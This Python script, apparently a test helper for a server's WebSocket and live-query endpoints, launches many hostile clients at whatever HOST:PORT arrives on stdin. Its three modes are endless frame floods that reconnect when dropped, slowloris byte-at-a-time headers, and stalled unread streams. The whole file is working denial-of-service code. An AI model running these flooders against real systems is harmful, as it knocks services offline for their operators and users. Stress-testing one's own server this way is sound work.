"""Hostile clients in a process of their own: `hostile_clients.py KIND COUNT` until killed.

KIND: one of `FLOODS` (each socket sends frames without end, and comes back when it is sent away),
`slowloris` (heads that come a byte at a time) or `stalled` (streams that are never read). Each line
on stdin is an address to attack from now on, HOST:PORT, or `rest`.
"""

import asyncio
import contextlib
import itertools
import socket
import sys

UPGRADE = (
    b"GET /api/v1/live/ws HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: livequery.v1\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
STREAM = (
    b"GET /api/v1/live?query=%7B%22entity%22:%22item%22,%22limit%22:3%7D HTTP/1.1\r\n"
    b"Host: localhost\r\n\r\n"
)
FLOODS = {
    "pings": b"\x89\x80\x00\x00\x00\x00",
    "pongs": b"\x8a\x80\x00\x00\x00\x00",
    "continuations": b"\x00\x80\x00\x00\x00\x00",
    "closes": b"\x88\x80\x00\x00\x00\x00",
    "texts": b"\x81\x82\x00\x00\x00\x00{}",
}
COME_BACK = 1.0
"""Seconds until a flooder that was sent away comes back."""


class Target:
    """Whom to attack, as stdin says."""

    def __init__(self):
        self.address = None
        self._changed = asyncio.Event()

    async def follow(self):
        reader = asyncio.StreamReader()
        loop = asyncio.get_running_loop()
        await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
        while line := (await reader.readline()).decode().strip():
            host, _, port = line.rpartition(":")
            self.address = (host, int(port)) if host else None
            self._changed.set()
            self._changed = asyncio.Event()

    async def get(self):
        while self.address is None:
            await self._changed.wait()
        return self.address


async def flood(target, frame):
    first = b"\x01\x80\x00\x00\x00\x00" if frame is FLOODS["continuations"] else b""
    while True:
        address = await target.get()
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(*address)
            writer.write(UPGRADE)
            await reader.readuntil(b"\r\n\r\n")
            writer.write(first)
            while address == target.address and not reader.at_eof() and not writer.is_closing():
                writer.write(frame * 10_000)
                await writer.drain()
                await asyncio.sleep(0)
            writer.transport.abort()
        await asyncio.sleep(COME_BACK)


async def dribble(target):
    while True:
        address = await target.get()
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(*address)
            for byte in itertools.chain(STREAM[:20], itertools.repeat(0x61)):
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
                if reader.at_eof() or address != target.address:
                    break
            writer.transport.abort()


async def stall(target):
    loop = asyncio.get_running_loop()
    while True:
        address = await target.get()
        sock = socket.socket()
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.setblocking(False)
            await loop.sock_connect(sock, address)
            await loop.sock_sendall(sock, STREAM)
            came_at = loop.time()
            while address == target.address and loop.time() < came_at + 10:
                await asyncio.sleep(0.5)
        sock.close()


async def main(kind, count):
    target = Target()
    if kind == "slowloris":
        clients = [dribble(target) for _ in range(count)]
    elif kind == "stalled":
        clients = [stall(target) for _ in range(count)]
    else:
        clients = [flood(target, FLOODS[kind]) for _ in range(count)]
    await asyncio.gather(target.follow(), *clients)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
